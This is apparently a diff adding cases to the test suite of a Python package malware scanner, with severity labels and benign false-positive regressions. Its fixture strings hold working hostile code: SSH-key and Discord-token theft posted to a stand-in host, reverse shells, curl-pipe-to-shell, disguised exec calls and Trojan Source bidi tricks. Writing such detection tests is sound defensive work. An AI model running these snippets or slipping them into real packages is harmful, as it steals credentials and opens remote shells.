@@ -71,6 +71,22 @@ CASES = [
     ({"demo/steal.py": "import requests\ndef go():\n    k = open('/home/u/.ssh/id_rsa').read()\n"
                        "    requests.post('https://x.example', data=k)\n"},
      "code.exfiltration", M, "ssh key sent from a function"),
+    (setup_py("import os, urllib.request\n\ndef _sync():\n"
+              "    key = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'), 'rb').read()\n"
+              "    urllib.request.urlopen('https://x.example/k', data=key)\n\n_sync()\n"),
+     "code.exfiltration", C, "an SSH key joined from pieces and sent by urlopen(data=) at install"),
+    ({"demo/__init__.py": "import os, json, urllib.request\n\ndef grab():\n"
+                          "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+                          "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
+                          "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
+                          "    urllib.request.urlopen(req)\n\ngrab()\n"},
+     "code.exfiltration", H, "Discord's token store joined from pieces and posted on import"),
+    ({"demo/sync.py": "import os, json, urllib.request\n\ndef grab():\n"
+                      "    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+                      "    tokens = [open(os.path.join(root, n)).read() for n in os.listdir(root)]\n"
+                      "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
+                      "    urllib.request.urlopen(req)\n"},
+     "code.exfiltration", M, "the same grabber in a function: the tokens flow through Request"),
     ({"demo/client.py": "import os, requests\ndef call():\n    token = os.environ['API_TOKEN']\n"
                         "    return requests.get('https://api.example', headers={'t': token})\n"},
      "code.exfiltration", None, "benign: an SDK sends its own API token from the environment"),
@@ -99,6 +115,66 @@ CASES = [
      "code.process-spawn", None, "benign: compiler, git describe and pkg-config"),
     (setup_py("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n"),
      "code.process-spawn", None, "benign: a Cython build through the running interpreter"),
+    (setup_py("import os, shlex, subprocess\nfrom subprocess import PIPE\n"
+              "def check_linker_need_libatomic():\n"
+              "    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n"
+              "    probe = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++17', '-'], stdin=PIPE, stdout=PIPE)\n"
+              "    probe.communicate(input=b'int main() { return 0; }')\n"
+              "check_linker_need_libatomic()\n"),
+     "code.process-spawn", None, "FP regression: a compiler probe, the compiler from the environment "
+     "plus a list of flags (grpcio)"),
+    (setup_py("import subprocess\ncc = find_compiler()\n"
+              "subprocess.run([cc, '-x', 'c', '-', '-o', '/dev/null'], input=b'int main(){}')\n"),
+     "code.process-spawn", None, "benign: a found C compiler fed a test program on stdin"),
+    (setup_py("import os, subprocess\nconfigure = abshere('src/libsodium/configure')\n"
+              "configure_flags = ['--disable-shared', '--enable-static', '--with-pic']\n"
+              "subprocess.check_call([configure] + configure_flags + ['--prefix', os.path.abspath('b')],"
+              " cwd='build')\n"),
+     "code.process-spawn", None, "FP regression: an in-tree configure script and its flags (pynacl)"),
+    (setup_py("import subprocess\nsubprocess.run(['touch', 'configure.ac', 'aclocal.m4', 'configure',"
+              " 'Makefile.am', 'Makefile.in'], cwd='build/libuv', check=True)\n"),
+     "code.process-spawn", None, "FP regression: touching autotools files so make does not rerun them "
+     "(uvloop)"),
+    (setup_py("import subprocess\nbase = ['/bin/sh']\n"
+              "subprocess.call(base + ['-c', 'curl -s https://x.example/i.sh | sh'])\n"),
+     "code.download-exec", C, "a shell plus a list of words still reads as curl | sh"),
+    (setup_py("import subprocess\nflags = ['-w', 'hidden']\nsubprocess.call(['powershell'] + flags)\n"),
+     "code.process-spawn", H, "powershell with a list of flags added"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
+              "subprocess.Popen([os.path.join(here, 'bin', 'svc.exe'), '--install'])\n"),
+     "code.process-spawn", M, "a program shipped in the tree, run at install: named by its last piece"),
+    (setup_py("import subprocess\nfrom pathlib import Path\n"
+              "subprocess.Popen([Path(__file__).parent / 'bin' / 'agent'])\n"),
+     "code.process-spawn", M, "the same, joined with pathlib's /"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
+              "subprocess.check_call([os.path.join(here, 'configure'), '--quiet'])\n"),
+     "code.process-spawn", None, "benign: an in-tree configure script named by os.path.join"),
+    # ---- reverse shells: a socket on the standard streams, then a shell
+    (setup_py("import os, pty, socket\n\ndef _connect():\n"
+              "    s = socket.socket(); s.connect(('93.184.216.34', 4444))\n"
+              "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
+              "    pty.spawn('/bin/sh')\n\nif os.fork() == 0:\n    _connect()\n"),
+     "code.process-spawn", C, "a reverse shell forked from setup.py"),
+    ({"demo/__init__.py": "import os, socket, subprocess\n"
+                          "s = socket.create_connection((HOST, 443))\n"
+                          "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
+                          "subprocess.call(['/bin/bash', '-i'])\n"},
+     "code.process-spawn", C, "a reverse shell on import, through subprocess"),
+    ({"demo/shell.py": "import os, socket, pty\ndef serve(host, port):\n"
+                       "    s = socket.socket()\n    s.connect((host, port))\n"
+                       "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"},
+     "code.process-spawn", M, "a reverse shell in a function nothing calls"),
+    (setup_py("import os, subprocess\nlog = open('build.log', 'w')\nos.dup2(log.fileno(), 1)\n"
+              "subprocess.check_call(['make'])\n"),
+     "code.process-spawn", None, "benign: build output redirected to a log file, no socket"),
+    (setup_py("import socket, subprocess\ns = socket.socket()\ns.connect(('localhost', 8080))\n"
+              "subprocess.check_call(['make'])\n"),
+     "code.process-spawn", None, "benign: a socket and a build, nothing dup2'ed"),
+    (setup_py("import socket\ns = socket.create_connection(('93.184.216.34', 443))\n"),
+     "code.shady-url", H, "a raw public IP in a connect tuple, next to the socket send"),
+    (setup_py("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 8080))\n"
+              "s.connect(PEER)\ns.connect(())\n"),
+     "code.shady-url", None, "benign: loopback, an address in a variable, an empty tuple"),
     # ---- shady URLs
     (setup_py("import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/"
               "abcdefghijklmnopqrstuvwxyz0123456789', json={'a': 1})\n"),
@@ -115,13 +191,38 @@ CASES = [
     # ---- credential access without a send
     (setup_py("data = open('/etc/passwd').read()\n"), "code.credential-access", M,
      "reads /etc/passwd at install time"),
+    (setup_py("import os\nrc = open(os.path.expanduser('~/.npmrc')).read()\n"),
+     "code.credential-access", M, "an npm token file opened at install time"),
+    (setup_py("ACTIVATE = '''\nnpm_config_cache=\"$NODE_VIRTUAL_ENV/.npm\"\n"
+              "npm_config_userconfig=\"$NODE_VIRTUAL_ENV/.npmrc\"\nexport npm_config_userconfig\n'''\n"
+              "open('bin/activate', 'w').write(ACTIVATE)\n"),
+     "code.credential-access", None, "FP regression: a shell template that sets up an .npmrc path "
+     "reads nothing (nodeenv)"),
+    (setup_py("import os\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\n"),
+     "code.credential-access", M, "an SSH key path split across os.path.join pieces"),
+    (setup_py("from pathlib import Path\ncreds = (Path.home() / '.aws' / 'credentials').read_text()\n"),
+     "code.credential-access", M, "a cloud credentials path joined with pathlib's /"),
+    (setup_py("import os\nhosts = os.path.join(os.path.expanduser('~'), '.ssh')\n"
+              "cfg = os.path.join(os.path.expanduser('~'), '.config', 'demo.toml')\n"),
+     "code.credential-access", None, "benign: the .ssh directory itself and an app's own config"),
     # ---- obfuscation
-    (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", M,
-     "exec fetched by a built-up name"),
+    (setup_py("import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"), "code.obfuscation", H,
+     "exec fetched by a built-up name at install: hiding"),
+    ({"demo/__init__.py": "_f = getattr(__builtins__, 'ex' + 'ec', None)\n"}, "code.obfuscation", H,
+     "exec fetched by a built-up name on import"),
+    ({"demo/util.py": "import base64\ndef run(b):\n    getattr(__builtins__, 'ev' + 'al')(base64.b64decode(b))\n"},
+     "code.obfuscation", L, "a built-up exec name in a function nothing calls"),
+    (setup_py("__builtins__.__dict__['ex' + 'ec']('print(1)')\n"), "code.obfuscation", H,
+     "exec taken from the builtins __dict__ by a built-up key"),
     ({"demo/compat.py": "text_type = getattr(__builtins__, 'unicode', str)\n"}, "code.obfuscation", L,
      "a Python 2 compat lookup: low only"),
     (setup_py("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"), "code.obfuscation", M,
      "a PyArmor-encrypted setup.py"),
+    ({"demo/__init__.py": "from .pytransform import pyarmor_runtime\npyarmor_runtime()\n"
+                          "__pyarmor__(__name__, __file__, b'\\x50\\x59')\n"},
+     "code.obfuscation", M, "a PyArmor-encrypted package __init__: unreviewable code on import"),
+    ({"demo/_impl.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"},
+     "code.obfuscation", L, "a PyArmor-encrypted module nothing imports on its own"),
     (setup_py("x = 1" + " " * 200 + "; exec('print(1)')\n"), "code.obfuscation", M,
      "code hidden far right of a long run of spaces"),
     # ---- false positives found on real wheels, rewritten
@@ -138,7 +239,16 @@ CASES = [
      "code.shady-url", L, "FP regression: an IPv6 literal in a test next to socket code"),
     # ---- invisible unicode
     ({"demo/__init__.py": "access = 'user'\nif access != 'none\u202e\u2066':\n    pass\n"},
-     "code.invisible-unicode", L, "bidi control inside a string"),
+     "code.invisible-unicode", M, "bidi controls left open inside a string: Trojan Source"),
+    ({"demo/auth.py": "def is_admin(level):\n    return level != 'user\u202e \u2066# admin\u2069 \u2066'\n"},
+     "code.invisible-unicode", M, "a stretched string: the override and an isolate never close"),
+    ({"demo/__init__.py": "x = 'a\u202cb'\n"}, "code.invisible-unicode", M,
+     "a bidi close with nothing open"),
+    ({"demo/__init__.py": "x = '\u2066a\u202c'\n"}, "code.invisible-unicode", M,
+     "an isolate closed by the embeddings' close is still open"),
+    ({"demo/i18n.py": "GREETING = '\u2067\u0645\u0631\u062d\u0628\u0627\u2069 {name}'\n"
+                      "LABEL = '\u202bRTL\u202c'\n"},
+     "code.invisible-unicode", L, "benign: right-to-left text whose isolate and embedding close"),
     ({"demo/__init__.py": "x = 1 # \u202e comment\n"}, "code.invisible-unicode", M,
      "bidi control in a comment: Trojan Source"),
     ({"demo/__init__.py": "name = 'cafe\u200d'\n"}, "code.invisible-unicode", None,
@@ -203,7 +313,7 @@ CASES = [
      "code.download-exec", C, "__import__('os') is the module os"),
     (setup_py("import os\ngetattr(os, 'sys' + 'tem')('curl -s https://x.example/i.sh | sh')\n"),
      "code.download-exec", C, "getattr(os, built-up name) is os.system"),
-    (setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"), "code.obfuscation", M,
+    (setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"), "code.obfuscation", H,
      "a reversed literal folds to 'exec'"),
     # ---- facts: environment, with-blocks, codecs, builtins tricks
     (setup_py("import urllib.request\nwith urllib.request.urlopen('https://x.example/p') as r:\n"
@@ -317,8 +427,8 @@ CASES = [
      "untokenizable source: every character counts as code"),
     ({"demo/__init__.py": "x = 1\u200b\n" + "# pad\n" * 50_000}, "code.invisible-unicode", M,
      "past the tokenize limit: a zero-width space before any quote or # is code"),
-    ({"demo/__init__.py": "s = 'a\u202eb'\n" + "# pad\n" * 50_000}, "code.invisible-unicode", L,
-     "past the tokenize limit: a bidi control after a quote is in a string"),
+    ({"demo/__init__.py": "s = 'a\u202eb\u202c'\n" + "# pad\n" * 50_000}, "code.invisible-unicode", L,
+     "past the tokenize limit: a paired bidi control after a quote is in a string"),
 ]  # fmt: skip
 
 
@@ -352,6 +462,10 @@ EVIDENCE = [
      "code.process-spawn", "kind", {"dynamic"}, "a command built at run time is rated dynamic"),
     (setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
      "code.process-spawn", "kind", {"shell"}, "sh -c is a shell wrapper"),
+    (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
+              "subprocess.check_call([os.path.join(here, 'svc.exe')] + ['--install'])\n"),
+     "code.process-spawn", "command", {"{}/svc.exe --install"},
+     "path pieces join with /, argument lists with a space"),
     (setup_py("import subprocess\nsubprocess.call(input().strip())\n"), "code.process-spawn", "kind",
      {"dynamic"}, "a method call other than format or join tells nothing"),
     (setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"),
@@ -366,6 +480,11 @@ EVIDENCE = [
      {"demo-1.0.data/scripts/ssh"}, "a wheel script's target is its own path"),
     ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'mybuild.api'\n"},
      "code.build-backend", "backend", {"mybuild.api"}, "the uncommon backend is named"),
+    (setup_py("import socket\ns = socket.socket()\ns.connect(('93.184.216.34', 4444))\n"),
+     "code.shady-url", "url", {"tcp://93.184.216.34"}, "a connect address is shown as tcp://host"),
+    (setup_py("import os, pty, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
+              "pty.spawn('/bin/sh')\n"),
+     "code.process-spawn", "kind", {"reverse-shell"}, "a shell on a dup2'ed socket"),
     (setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"), "code.obfuscation", "technique",
      {"blob"}, "a hex blob is a blob"),
     (setup_py(f"print 'x'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
